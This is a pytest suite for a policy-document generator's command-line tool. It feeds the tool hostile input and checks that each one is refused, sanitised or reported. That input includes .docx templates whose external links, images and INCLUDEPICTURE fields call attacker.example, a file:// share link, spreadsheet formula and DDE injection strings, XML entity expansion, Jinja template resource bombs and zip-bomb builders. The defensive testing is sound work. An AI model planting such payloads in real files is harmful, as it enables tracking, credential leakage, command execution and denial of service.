"""Hostile input through the command line: every bad input gets a clear message, a non-zero exit (2 for bad
input), no traceback, and nothing lost or half-written.

The cases run ``python -m balises generate`` in a subprocess, as an adviser or a server would. Cases that need a
successful generation use the minimal pack of tests/hostile/pack (one section, one clause), so that they do not
depend on the clause text being edited.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import signal
import stat
import subprocess
import sys
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from .conftest import ROOT
from .zipbomb import bomb_part

HOSTILE = Path(__file__).resolve().parent / "hostile"
AS_OF = "2026-11-23"
OLD_CONTENT = b"PK old policy, approved by the board - must survive any failure\n" * 50


def run_cli(*args: str, timeout: float = 60, env_extra: dict | None = None) -> subprocess.CompletedProcess:
    env = {**os.environ, "BALISES_LANG": "en", "PYTHONPATH": str(ROOT)}
    env.pop("BALISES_DEBUG", None)
    env.update(env_extra or {})
    return subprocess.run([sys.executable, "-m", "balises", *args], cwd=ROOT, env=env, capture_output=True,
                          text=True, timeout=timeout)


@pytest.fixture(scope="module")
def mini_pack(tmp_path_factory) -> Path:
    target = tmp_path_factory.mktemp("pack") / "mini"
    shutil.copytree(HOSTILE / "pack", target)
    shutil.copy(ROOT / "policy_templates" / "reference.docx", target / "policy_templates" / "reference.docx")
    return target


def leftovers(folder: Path) -> list[str]:
    """Temporary files write_atomic might have left (``.name.XXXX.tmp``)."""
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".tmp"))


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# ----------------------------------------------------------------------------------------------- the table


@dataclass
class Case:
    id: str
    profile: str | None = None  # a file under tests/hostile/, or built by ``make``
    make: object = None  # callable(tmp_path) -> profile path
    output: object = None  # callable(tmp_path) -> output path; default tmp_path / "policy.docx"
    extra: list = field(default_factory=list)
    exit: int = 2
    words: tuple = ()  # all must appear in stderr (case-insensitive)
    skip_if_root: bool = False


def _big_file(tmp: Path) -> Path:
    path = tmp / "big.yaml"
    with open(path, "wb") as fh:
        fh.write(b"schema_version: 1\n# ")
        fh.truncate(50 * 1024 * 1024)  # 50 MB (sparse: cheap to make)
    return path


def _deep_yaml(tmp: Path) -> Path:
    path = tmp / "deep.yaml"
    path.write_text("organisation: " + "[" * 5000 + "]" * 5000 + "\n")
    return path


def _many_tools(tmp: Path) -> Path:
    path = tmp / "tools.yaml"
    tools = "".join(f"  - {{name: Tool{i}}}\n" for i in range(250))
    path.write_text((HOSTILE / "valid.yaml").read_text() + "tools:\n" + tools)
    return path


def _long_name(tmp: Path) -> Path:
    path = tmp / "long.yaml"
    path.write_text((HOSTILE / "valid.yaml").read_text().replace('"Compagnie Hostile"', '"' + "A" * 5000 + '"'))
    return path


def _readonly_dir(tmp: Path) -> Path:
    folder = tmp / "readonly"
    folder.mkdir()
    folder.chmod(0o555)
    return folder / "policy.docx"


CASES = [
    Case("malformed-yaml", "malformed.yaml", words=("malformed.yaml", "invalid YAML")),
    Case("malformed-json", "malformed.json", words=("malformed.json", "invalid JSON")),
    Case("not-utf8", "latin1.yaml", words=("UTF-8",)),
    Case("alias-bomb", "alias_bomb.yaml", words=("alias", "too many")),
    Case("python-tag", "python_tag.yaml", words=("tag refused", "python")),
    Case("file-50MB", make=_big_file, words=("too large", "bytes")),
    Case("deeply-nested", make=_deep_yaml, words=("deep",)),
    Case("not-a-mapping", "not_a_mapping.yaml", words=("mapping",)),
    Case("wrong-types", "wrong_types.yaml",
         words=("organisation.employees", "whole number", "organisation.freelancers", "boolean",
                "policy.languages", "list")),
    Case("unknown-keys", "unknown_keys.yaml",
         words=("organisation.colour", "unknown key", "polcy", "did you mean 'policy'")),
    Case("contract-cse-outside-france", "constraints.yaml", words=("organisation.staff_representation", "CSE")),
    Case("control-characters", "control_chars.yaml", words=("organisation.name", "control characters")),
    Case("too-many-tools", make=_many_tools, words=("tools", "too long", "200")),
    Case("name-too-long", make=_long_name, words=("organisation.name", "too long", "5000")),
    Case("missing-profile", make=lambda tmp: tmp / "nowhere.yaml", words=("File not found",)),
    Case("profile-is-a-directory", make=lambda tmp: tmp, words=("directory",)),
    Case("bad-as-of", "valid.yaml", extra=["--as-of", "2026-13-45"], words=("--as-of", "not a date")),
    Case("bad-lang", "valid.yaml", extra=["--lang", "de"], words=("--lang", "de")),
    Case("bad-edition", "valid.yaml", extra=["--edition", "poster"], words=("--edition", "poster")),
    Case("output-is-a-directory", "valid.yaml", output=lambda tmp: tmp, words=("is a directory", "file name")),
    Case("output-folder-missing", "valid.yaml", output=lambda tmp: tmp / "no" / "such" / "policy.docx",
         words=("does not exist",)),
    Case("output-parent-is-a-file", "valid.yaml", output=lambda tmp: (tmp / "f").write_text("x") and tmp / "f" / "p.docx",
         words=("does not exist",)),
    Case("output-unwritable", "valid.yaml", output=_readonly_dir, words=("permission denied",), skip_if_root=True),
    Case("trace-is-a-directory", "valid.yaml", extra=["--trace", "{tmp}"], words=("is a directory",)),
]


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_bad_input_is_refused_clearly(case: Case, tmp_path: Path):
    if case.skip_if_root and os.geteuid() == 0:
        pytest.skip("running as root: file permissions do not stop root (the check is os.access)")
    profile = case.make(tmp_path) if case.make else HOSTILE / case.profile
    output = case.output(tmp_path) if case.output else tmp_path / "policy.docx"
    before = sorted(p.name for p in tmp_path.iterdir()) if tmp_path.is_dir() else []
    extra = [a.replace("{tmp}", str(tmp_path)) for a in case.extra]
    result = run_cli("generate", str(profile), "-o", str(output), "--as-of", AS_OF, *extra)
    err = result.stderr + result.stdout
    assert result.returncode == case.exit, err
    assert "Traceback" not in err and "internal error" not in err, err
    for word in case.words:
        assert word.lower() in err.lower(), f"{word!r} not in: {err}"
    # nothing written, nothing half-written
    assert sorted(p.name for p in tmp_path.iterdir()) == before
    if output.parent.is_dir():
        assert leftovers(output.parent) == []
    assert not Path("/tmp/balises-pwned").exists()


def test_message_in_french_names_the_field(tmp_path: Path):
    result = run_cli("generate", str(HOSTILE / "wrong_types.yaml"), "-o", str(tmp_path / "p.docx"),
                     env_extra={"BALISES_LANG": "fr"})
    assert result.returncode == 2
    assert "organisation.employees" in result.stderr and "nombre entier" in result.stderr
    assert "Traceback" not in result.stderr


# ----------------------------------------------------------------------- existing files: replaced or kept


def test_invalid_profile_leaves_existing_output_byte_identical(tmp_path: Path):
    out = tmp_path / "policy.docx"
    out.write_bytes(OLD_CONTENT)
    before = digest(out)
    for bad in ("wrong_types.yaml", "malformed.yaml", "alias_bomb.yaml", "python_tag.yaml"):
        result = run_cli("generate", str(HOSTILE / bad), "-o", str(out), "--as-of", AS_OF)
        assert result.returncode == 2, result.stderr
        assert digest(out) == before, bad
    assert leftovers(tmp_path) == []


def test_existing_output_is_replaced_whole(tmp_path: Path, mini_pack: Path):
    import docx

    out = tmp_path / "policy.docx"
    out.write_bytes(OLD_CONTENT)
    out.chmod(0o640)
    result = run_cli("generate", str(HOSTILE / "valid.yaml"), "-o", str(out), "--as-of", AS_OF,
                     "--pack", str(mini_pack))
    assert result.returncode == 0, result.stderr
    assert "Compagnie Hostile" in "\n".join(p.text for p in docx.Document(str(out)).paragraphs)
    assert out.stat().st_mode & 0o777 == 0o640  # the file keeps its permissions
    assert leftovers(tmp_path) == []


def test_write_failure_after_generation_is_reported(tmp_path: Path, mini_pack: Path):
    """/proc accepts the access check but refuses the file: the write fails after the generation."""
    if not os.access("/proc", os.W_OK):
        pytest.skip("needs a folder that os.access calls writable but that refuses files")
    result = run_cli("generate", str(HOSTILE / "valid.yaml"), "-o", "/proc/balises-policy.docx", "--as-of", AS_OF,
                     "--pack", str(mini_pack))
    err = result.stderr + result.stdout
    assert result.returncode == 2, err
    assert "Traceback" not in err and "/proc/balises-policy.docx" in err
    assert not Path("/proc/balises-policy.docx").exists()


# ------------------------------------------------------------------------------------ interrupted runs

INTERRUPT = """
import os, signal, sys
sys.argv = ["balises", *sys.argv[1:]]
real_fsync = os.fsync
def fsync(fd):
    os.kill(os.getpid(), signal.{signal})   # the user presses Ctrl-C (or the server kills us) mid-write
    return real_fsync(fd)
os.fsync = fsync
from balises.cli.main import run
run()
"""


def _interrupted(signame: str, tmp_path: Path, mini_pack: Path) -> tuple[subprocess.CompletedProcess, Path]:
    out = tmp_path / "policy.docx"
    out.write_bytes(OLD_CONTENT)
    env = {**os.environ, "BALISES_LANG": "en", "PYTHONPATH": str(ROOT)}
    result = subprocess.run(
        [sys.executable, "-c", INTERRUPT.replace("{signal}", signame), "generate", str(HOSTILE / "valid.yaml"),
         "-o", str(out), "--as-of", AS_OF, "--pack", str(mini_pack)],
        cwd=ROOT, env=env, capture_output=True, text=True, timeout=60)
    return result, out


def test_ctrl_c_mid_write_leaves_old_file_and_no_temp_file(tmp_path: Path, mini_pack: Path):
    result, out = _interrupted("SIGINT", tmp_path, mini_pack)
    assert result.returncode == 130, result.stderr
    assert "interrupted: no file was written" in result.stderr
    assert "Traceback" not in result.stderr
    assert out.read_bytes() == OLD_CONTENT
    assert leftovers(tmp_path) == []


def test_sigterm_mid_write_leaves_old_file_and_no_temp_file(tmp_path: Path, mini_pack: Path):
    result, out = _interrupted("SIGTERM", tmp_path, mini_pack)
    assert result.returncode == 143, result.stderr
    assert "interrupted: no file was written" in result.stderr and "Traceback" not in result.stderr
    assert out.read_bytes() == OLD_CONTENT
    assert leftovers(tmp_path) == []


def test_killed_mid_write_never_leaves_a_half_written_policy(tmp_path: Path, mini_pack: Path):
    """SIGKILL cannot be cleaned up after; what matters is that the policy itself is never half-written."""
    result, out = _interrupted("SIGKILL", tmp_path, mini_pack)
    assert result.returncode == -signal.SIGKILL
    assert out.read_bytes() == OLD_CONTENT
    for name in leftovers(tmp_path):  # a stray temporary file is named as such, never as the policy
        assert name.startswith(".policy.docx.") and name.endswith(".tmp")


@pytest.mark.parametrize("exc", [OSError(28, "No space left on device"), RuntimeError("boom"), KeyboardInterrupt()],
                         ids=["disk-full", "bug", "ctrl-c"])
def test_exception_inside_write_atomic_removes_temp_file(tmp_path: Path, monkeypatch, exc):
    from balises import safewrite
    from balises.errors import OutputError

    out = tmp_path / "policy.docx"
    out.write_bytes(OLD_CONTENT)

    def failing_fsync(fd):
        raise exc

    monkeypatch.setattr(safewrite.os, "fsync", failing_fsync)
    expected = OutputError if isinstance(exc, OSError) else type(exc)
    with pytest.raises(expected) as info:
        safewrite.write_atomic(out, b"new content that must never be seen half-written")
    if isinstance(exc, OSError):
        assert "No space left on device" in str(info.value) and str(out) in str(info.value)
    assert out.read_bytes() == OLD_CONTENT
    assert leftovers(tmp_path) == []


# ------------------------------------------------------------------ issue 14: the attacks, one row each
#
# Every row runs the command line in a subprocess under a memory cap (RLIMIT_AS) and a time limit, then
# checks the exit code, the words of the message (the field or file named), that nothing is half-written or
# left behind, and anything particular to the row (``check``).

import csv as _csv  # noqa: E402
import re as _re  # noqa: E402
import resource  # noqa: E402
import socket  # noqa: E402
import time  # noqa: E402
import zipfile  # noqa: E402
from collections.abc import Callable  # noqa: E402

from .cli_process import Completed, forked_cli  # noqa: E402

MEMORY_CAP = 1536 * 1024 * 1024  # the attacks reached 1.8 to 6.4 GB; an honest run needs a few hundred MB


def run_capped(args: list[str], seconds: float) -> tuple[Completed | None, float]:
    """``balises ARGS`` in a process of its own under the memory cap (forked from a server that has imported
    Balises: tests/cli_process.py); None if still running after ``seconds``."""
    env = {**os.environ, "BALISES_LANG": "en", "PYTHONPATH": str(ROOT)}
    env.pop("BALISES_DEBUG", None)
    start = time.monotonic()
    result = forked_cli(args, env, str(ROOT), seconds, memory_cap=MEMORY_CAP)
    return result, time.monotonic() - start


@dataclass
class Attack:
    id: str
    build: Callable  # (tmp, pack) -> the CLI arguments
    exit: int = 2
    words: tuple = ()
    seconds: float = 30
    check: Callable | None = None  # (tmp, result) -> None
    root_only: bool = False
    slow: bool = False  # the slow set's (round 3)


def _copy_pack(tmp: Path, pack: Path) -> Path:
    target = tmp / "pack"
    shutil.copytree(pack, target)
    return target


def _rezip(path: Path, replace: dict[str, bytes], extra: dict[str, bytes] | None = None) -> None:
    with zipfile.ZipFile(path) as old:
        parts = {n: old.read(n) for n in old.namelist()}
    parts.update(replace)
    parts.update(extra or {})
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name, data in parts.items():
            new.writestr(name, data)


def _part(path: Path, name: str) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read(name).decode("utf-8")


RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
R_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _hostile_reference(tmp: Path, pack: Path, how: str) -> Path:
    """A pack whose reference .docx carries one way of reaching out (or one bomb)."""
    target = _copy_pack(tmp, pack)
    ref = target / "policy_templates" / "reference.docx"
    footer = _part(ref, "word/footer1.xml")
    settings = _part(ref, "word/settings.xml")
    if how == "attached-template":
        rels = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{RELS_NS}">'
                f'<Relationship Id="rIdT" Type="{R_TYPE}attachedTemplate" '
                'Target="http://attacker.example/template.dotm" TargetMode="External"/></Relationships>')
        settings = _re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdT"/>', settings, count=1)
        _rezip(ref, {"word/settings.xml": settings.encode()}, {"word/_rels/settings.xml.rels": rels.encode()})
    elif how == "footer-image":
        rels = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{RELS_NS}">'
                f'<Relationship Id="rIdImg" Type="{R_TYPE}image" Target="http://attacker.example/pixel.png" '
                'TargetMode="External"/></Relationships>')
        pict = ('<w:r><w:pict><v:shape style="width:10pt;height:10pt"><v:imagedata r:id="rIdImg"/></v:shape>'
                '</w:pict></w:r>')
        footer = footer.replace("<w:r><w:tab/></w:r>", pict + "<w:r><w:tab/></w:r>", 1)
        _rezip(ref, {"word/footer1.xml": footer.encode()}, {"word/_rels/footer1.xml.rels": rels.encode()})
    elif how == "includepicture":
        field = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
                 'INCLUDEPICTURE "http://attacker.example/logo.png" \\d </w:instrText></w:r>'
                 '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')
        footer = footer.replace("<w:r><w:tab/></w:r>", field + "<w:r><w:tab/></w:r>", 1)
        _rezip(ref, {"word/footer1.xml": footer.encode()})
    elif how == "file-link":
        rels = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{RELS_NS}">'
                f'<Relationship Id="rIdL" Type="{R_TYPE}hyperlink" Target="file:////attacker.example/share/x" '
                'TargetMode="External"/></Relationships>')
        link = '<w:hyperlink r:id="rIdL"><w:r><w:t>intranet</w:t></w:r></w:hyperlink>'
        footer = footer.replace("<w:r><w:tab/></w:r>", link + "<w:r><w:tab/></w:r>", 1)
        _rezip(ref, {"word/footer1.xml": footer.encode()}, {"word/_rels/footer1.xml.rels": rels.encode()})
    elif how == "entity":
        footer = footer.replace("<?xml version='1.0' encoding='UTF-8' standalone='yes'?>",
                                '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE w:ftr [<!ENTITY org "Pwned">]>')
        footer = footer.replace(">Page <", ">&org; Page <", 1)
        _rezip(ref, {"word/footer1.xml": footer.encode()})
    elif how == "big-part":  # 6 MB on disk, 6 GB once inflated
        with zipfile.ZipFile(ref) as old:
            parts = {n: old.read(n) for n in old.namelist()}
        with zipfile.ZipFile(ref, "w", zipfile.ZIP_DEFLATED) as new:
            for name, data in parts.items():
                if name == "word/styles.xml":
                    with bomb_part(new, name) as fh:
                        fh.write(data[:-len("</w:styles>")])
                        block = b" " * (64 * 1024 * 1024)
                        for _ in range(96):
                            fh.write(block)
                        fh.write(b"</w:styles>")
                else:
                    new.writestr(name, data)
    return target


def _forced_archive(tmp: Path, pack: Path) -> Path:
    """The pack built anyway, as someone else would have built and sent it: the archive ``balises pack build
    --force`` writes, made without its lint (seconds per case; the ref-*-pack-build case runs the command)."""
    from balises.packs.authoring import build_archive

    out = tmp / "sent.zip"
    build_archive(pack, out)
    return out


def _outbound_rels(docx_path: Path) -> list[str]:
    found = []
    with zipfile.ZipFile(docx_path) as archive:
        for name in archive.namelist():
            text = archive.read(name).decode("utf-8", "replace")
            if name.endswith(".rels") and "External" in text:
                found.append(f"{name}: external relationship")
            if name.endswith(".xml") and _re.search(r"INCLUDEPICTURE|INCLUDETEXT|attacker\.example|file:///", text):
                found.append(f"{name}: {_re.search(r'INCLUDEPICTURE|INCLUDETEXT|attacker.example|file:///', text)[0]}")
    return found


def _sanitised(tmp: Path, result) -> None:
    found = _outbound_rels(tmp / "policy.docx")
    assert found == [], found
    import docx

    footer = docx.Document(str(tmp / "policy.docx")).sections[0].footer
    assert "Page" in "".join(p.text for p in footer.paragraphs)


def _gen(pack_how: str):
    def build(tmp, pack):
        hostile = _hostile_reference(tmp, pack, pack_how)
        return ["generate", str(HOSTILE / "valid.yaml"), "-o", str(tmp / "policy.docx"), "--as-of", AS_OF,
                "--pack", str(hostile)]
    return build


def _lint(pack_how: str):
    def build(tmp, pack):
        return ["lint", "--pack", str(_hostile_reference(tmp, pack, pack_how))]
    return build


def _template_pack(tmp: Path, pack: Path, body: str) -> Path:
    target = _copy_pack(tmp, pack)
    for lang in ("fr", "en"):
        (target / "policy_templates" / lang / "purpose.object.md").write_text(body)
    return target


def _template_gen(body: str):
    def build(tmp, pack):
        return ["generate", str(HOSTILE / "valid.yaml"), "-o", str(tmp / "policy.docx"), "--as-of", AS_OF,
                "--pack", str(_template_pack(tmp, pack, body))]
    return build


def _template_lint(body: str):
    def build(tmp, pack):
        return ["lint", "--pack", str(_template_pack(tmp, pack, body))]
    return build


def _fifo_pack(tmp: Path, pack: Path) -> Path:
    target = _copy_pack(tmp, pack)
    os.mkfifo(target / "rules" / "more.yaml")
    return target


def _device_pack(tmp: Path, pack: Path) -> Path:
    target = _copy_pack(tmp, pack)
    os.mknod(target / "rules" / "zero.yaml", 0o600 | stat.S_IFCHR, os.makedev(1, 5))  # like /dev/zero
    return target


def _profile(tmp: Path, replace: tuple[str, str] = ("", ""), append: str = "") -> Path:
    path = tmp / "answers.yaml"
    path.write_text((HOSTILE / "valid.yaml").read_text().replace(*replace) + append)
    return path


def _gen_profile(**kw):
    def build(tmp, pack):
        return ["generate", str(_profile(tmp, **kw)), "-o", str(tmp / "policy.docx"), "--as-of", AS_OF,
                "--pack", str(pack)]
    return build


# the policy generated from tests/hostile/valid.yaml with the (unchanging) mini pack, made once per worker for
# the cases that upload an altered copy of it
_OLD_POLICY: dict[str, bytes] = {}


def _old_policy(tmp: Path, pack: Path) -> None:
    """``tmp/old.docx``: ``balises generate tests/hostile/valid.yaml --pack PACK``, run once per pack."""
    if str(pack) not in _OLD_POLICY:
        r = run_cli("generate", str(HOSTILE / "valid.yaml"), "-o", str(tmp / "old.docx"), "--as-of", AS_OF,
                    "--pack", str(pack))
        assert r.returncode == 0, r.stderr
        _OLD_POLICY[str(pack)] = (tmp / "old.docx").read_bytes()
    (tmp / "old.docx").write_bytes(_OLD_POLICY[str(pack)])


def _zip_pack(tmp: Path, pack: Path, mutate: Callable) -> Path:
    """The mini pack as a built archive (manifest and all: what ``balises pack build`` writes, made without its
    lint), then altered by ``mutate(path)``."""
    from balises.packs.authoring import build_archive

    out = tmp / "pack.zip"
    build_archive(pack, out)
    mutate(out)
    return out


def _zip_dot_entry(path: Path) -> None:
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(".", b"x")


def _zip_encrypted(path: Path) -> None:
    _patch_headers(path, flag=0x1)  # "encrypted": zipfile cannot read it without a password


def _patch_headers(path: Path, flag: int = 0, method: int | None = None) -> None:
    """Set a flag or the compression method in every local and central header of the archive."""
    raw = bytearray(path.read_bytes())
    for sig, flag_at, method_at in ((b"PK\x03\x04", 6, 8), (b"PK\x01\x02", 8, 10)):
        start = 0
        while (i := raw.find(sig, start)) >= 0:
            old = int.from_bytes(raw[i + flag_at:i + flag_at + 2], "little")
            raw[i + flag_at:i + flag_at + 2] = (old | flag).to_bytes(2, "little")
            if method is not None:
                raw[i + method_at:i + method_at + 2] = method.to_bytes(2, "little")
            start = i + 4
    path.write_bytes(bytes(raw))


def _zip_deflate64(path: Path) -> None:
    _patch_headers(path, method=9)  # deflate64, which zipfile does not implement


def _gen_zip(mutate):
    def build(tmp, pack):
        return ["generate", str(HOSTILE / "valid.yaml"), "-o", str(tmp / "policy.docx"), "--as-of", AS_OF,
                "--pack", str(_zip_pack(tmp, pack, mutate))]
    return build


def _pack_file(rel: str, text: str):
    def build(tmp, pack):
        target = _copy_pack(tmp, pack)
        (target / rel).parent.mkdir(parents=True, exist_ok=True)
        (target / rel).write_text(text)
        return ["generate", str(HOSTILE / "valid.yaml"), "-o", str(tmp / "policy.docx"), "--as-of", AS_OF,
                "--pack", str(target)]
    return build


def _overlay(tmp: Path, rel: str, text: str) -> list[str]:
    """A pack layered over the default one, with one file."""
    target = tmp / "overlay"
    (target / rel).parent.mkdir(parents=True)
    (target / "pack.yaml").write_text("name: overlay\nversion: '1.0'\nextends: default\n")
    (target / rel).write_text(text)
    return ["generate", str(HOSTILE / "valid.yaml"), "-o", str(tmp / "policy.docx"), "--as-of", AS_OF,
            "--pack", str(target)]


def _batch_csv(rows: list[dict], name: str = "members.csv"):
    def build(tmp, pack):
        path = tmp / name
        with open(path, "w", newline="") as fh:
            writer = _csv.DictWriter(fh, fieldnames=list(rows[0]))
            writer.writeheader()
            writer.writerows(rows)
        return ["batch", str(path), "-o", str(tmp / "out"), "--as-of", AS_OF, "--pack", str(pack), "-j", "1"]
    return build


ROW = {"organisation.name": "", "organisation.jurisdiction": "quebec", "organisation.sector": "performing_arts",
       "organisation.employees": "4", "policy.languages": "fr"}
FORMULAS = ["=HYPERLINK(\"http://attacker.example\",\"x\")", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
            "\tTab", "\rReturn"]


def _report_neutralised(tmp: Path, result) -> None:
    with open(tmp / "out" / "report.csv", newline="") as fh:
        for line in _csv.DictReader(fh):
            for value in line.values():
                assert not (value or "").startswith(("=", "+", "-", "@", "\t", "\r")), line


def _member_book(tmp: Path) -> Path:
    """A workbook of one valid member, for the attacks to tamper with."""
    import openpyxl

    path = tmp / "members.xlsx"
    book = openpyxl.Workbook()
    book.active.append(list(ROW))
    book.active.append(["Membre", *list(ROW.values())[1:]])
    book.save(path)
    return path


def _xlsx_big_part(tmp: Path, pack: Path) -> list[str]:
    """A 2 MB workbook whose sheet inflates to 2 GB (the issue's was its shared strings; openpyxl reads both)."""
    path = _member_book(tmp)
    with zipfile.ZipFile(path) as old:
        parts = {n: old.read(n) for n in old.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name, data in parts.items():
            if name == "xl/worksheets/sheet1.xml":
                head, tail = data.split(b"</worksheet>")
                with bomb_part(new, name) as fh:
                    fh.write(head)
                    block = b" " * (64 * 1024 * 1024)
                    for _ in range(32):
                        fh.write(block)
                    fh.write(b"</worksheet>")
            else:
                new.writestr(name, data)
    return ["batch", str(path), "-o", str(tmp / "out"), "--as-of", AS_OF, "--pack", str(pack), "-j", "1"]


def _xlsx_dtd(tmp: Path, pack: Path) -> list[str]:
    path = _member_book(tmp)
    sheet = _part(path, "xl/worksheets/sheet1.xml")
    sheet = sheet.replace('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>', "", 1)
    sheet = ('<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
             + sheet)
    _rezip(path, {"xl/worksheets/sheet1.xml": sheet.encode()})
    return ["batch", str(path), "-o", str(tmp / "out"), "--as-of", AS_OF, "--pack", str(pack), "-j", "1"]


def _fifo_output(tmp: Path, pack: Path) -> list[str]:
    os.mkfifo(tmp / "policy.docx")
    return ["generate", str(HOSTILE / "valid.yaml"), "-o", str(tmp / "policy.docx"), "--as-of", AS_OF,
            "--pack", str(pack)]


def _socket_output(tmp: Path, pack: Path) -> list[str]:
    sock = socket.socket(socket.AF_UNIX)
    sock.bind(str(tmp / "policy.docx"))
    sock.close()
    return ["generate", str(HOSTILE / "valid.yaml"), "-o", str(tmp / "policy.docx"), "--as-of", AS_OF,
            "--pack", str(pack)]


def _device_output(tmp: Path, pack: Path) -> list[str]:
    os.mknod(tmp / "policy.docx", 0o666 | stat.S_IFCHR, os.makedev(1, 3))  # a second /dev/null
    return ["generate", str(HOSTILE / "valid.yaml"), "-o", str(tmp / "policy.docx"), "--as-of", AS_OF,
            "--pack", str(pack)]


def _still_special(tmp: Path, result) -> None:
    mode = os.lstat(tmp / "policy.docx").st_mode
    assert not stat.S_ISREG(mode), "the special file was replaced by a regular file"


def _long_french_name(tmp: Path, pack: Path) -> list[str]:
    name = ("Coopérative de solidarité des artistes, artisanes et travailleuses culturelles de l'Abitibi-"
            "Témiscamingue et du Nord-du-Québec pour la création, la diffusion et la médiation en arts")
    name = (name + " numériques et vivants")[:199]
    assert len(name) == 199
    return ["generate", str(_profile(tmp, replace=('"Compagnie Hostile"', f'"{name}"'))), "-o",
            str(tmp / "policy.docx"), "--as-of", AS_OF, "--pack", str(pack)]


def _written(tmp: Path, result) -> None:
    assert (tmp / "policy.docx").stat().st_size > 1000


def _deep_payload(tmp: Path, pack: Path) -> list[str]:
    from balises.render.embedding import CUSTOM_XML_PART

    _old_policy(tmp, pack)
    from balises.render.embedding import NAMESPACE

    deep = "[" * 100_000 + "]" * 100_000
    xml = (f'<?xml version="1.0" encoding="UTF-8"?><policy xmlns="{NAMESPACE}"><data format="json">'
           f'{deep}</data></policy>')
    _rezip(tmp / "old.docx", {CUSTOM_XML_PART.lstrip("/"): xml.encode()})
    return ["regenerate", str(tmp / "old.docx"), "-o", str(tmp / "policy.docx"), "--as-of", AS_OF]


def _odd_upload(tmp: Path, pack: Path, **patch) -> list[str]:
    _old_policy(tmp, pack)
    _patch_headers(tmp / "old.docx", **patch)
    return ["regenerate", str(tmp / "old.docx"), "-o", str(tmp / "policy.docx"), "--as-of", AS_OF]


def _inflated_policy(tmp: Path, pack: Path) -> Path:
    """A policy of 3 MB on disk, 3 GB once inflated: its document's XML padded with spaces."""
    _old_policy(tmp, pack)
    with zipfile.ZipFile(tmp / "old.docx") as old:
        parts = {n: old.read(n) for n in old.namelist()}
    with zipfile.ZipFile(tmp / "old.docx", "w", zipfile.ZIP_DEFLATED) as new:
        for name, data in parts.items():
            if name == "word/document.xml":
                with bomb_part(new, name) as fh:
                    fh.write(data)
                    block = b" " * (64 * 1024 * 1024)
                    for _ in range(48):
                        fh.write(block)
            else:
                new.writestr(name, data)
    return tmp / "old.docx"


def _big_docx_upload(tmp: Path, pack: Path) -> list[str]:
    _inflated_policy(tmp, pack)
    return ["regenerate", str(tmp / "old.docx"), "-o", str(tmp / "policy.docx"), "--as-of", AS_OF]


ATTACKS = [
    # 1. a reference document that reaches out: removed from the policy, reported by lint
    Attack("ref-attached-template-generate", _gen("attached-template"), exit=0, check=_sanitised),
    Attack("ref-footer-image-generate", _gen("footer-image"), exit=0, check=_sanitised),
    Attack("ref-includepicture-generate", _gen("includepicture"), exit=0, check=_sanitised),
    Attack("ref-file-link-generate", _gen("file-link"), exit=0, check=_sanitised),
    Attack("ref-attached-template-lint", _lint("attached-template"), exit=1,
           words=("reference.docx", "attachedTemplate", "attacker.example")),
    Attack("ref-footer-image-lint", _lint("footer-image"), exit=1, words=("reference.docx", "attacker.example")),
    Attack("ref-includepicture-lint", _lint("includepicture"), exit=1, words=("reference.docx", "INCLUDEPICTURE")),
    Attack("ref-file-link-lint", _lint("file-link"), exit=1, words=("reference.docx", "file:")),
    Attack("ref-footer-image-pack-build", lambda tmp, pack: [
        "pack", "build", str(_hostile_reference(tmp, pack, "footer-image")), "-o", str(tmp / "pack.zip")], exit=1,
        words=("reference.docx", "attacker.example", "no archive written"),
        check=lambda tmp, result: not (tmp / "pack.zip").exists() or pytest.fail("archive written")),
    Attack("ref-attached-template-pack-verify", lambda tmp, pack: [
        "pack", "verify", str(_forced_archive(tmp, _hostile_reference(tmp, pack, "attached-template")))], exit=1,
        words=("reference.docx", "attachedTemplate", "attacker.example")),
    Attack("ref-entity-in-footer", _gen("entity"), words=("reference.docx", "word/footer1.xml", "DTD")),
    Attack("ref-6GB-part", _gen("big-part"), words=("reference.docx", "word/styles.xml", "too large")),
    # 2. templates without limits
    Attack("template-pow", _template_gen("{{ 3**(10**8) }}"), words=("purpose.object.md", "too large")),
    Attack("template-nested-range", _template_gen(
        "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"),
        words=("purpose.object.md", "limit")),
    Attack("template-lipsum", _template_gen("{{ lipsum(n=100000000) }}"), words=("purpose.object.md",)),
    Attack("template-repeat", _template_gen("{{ 'A'*300000000 }}"), words=("purpose.object.md", "too large")),
    Attack("template-doubling", _template_gen(
        "{% set ns = namespace(s='AAAA') %}{% for i in range(40) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}"
        "{{ ns.s|length }}"), words=("purpose.object.md", "too large")),
    Attack("template-center", _template_gen("{{ 'x'|center(1000000000) }}"), words=("purpose.object.md",)),
    # lint reads the pack, renders the bomb, and reports it as a problem found (exit 1, not a hang)
    Attack("lint-template-pow", _template_lint("{{ 3**(10**8) }}"), exit=1, words=("purpose.object.md", "too large")),
    Attack("lint-nested-range", _template_lint(
        "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"), exit=1,
        words=("purpose.object.md", "limit")),
    # 3. files that are not files
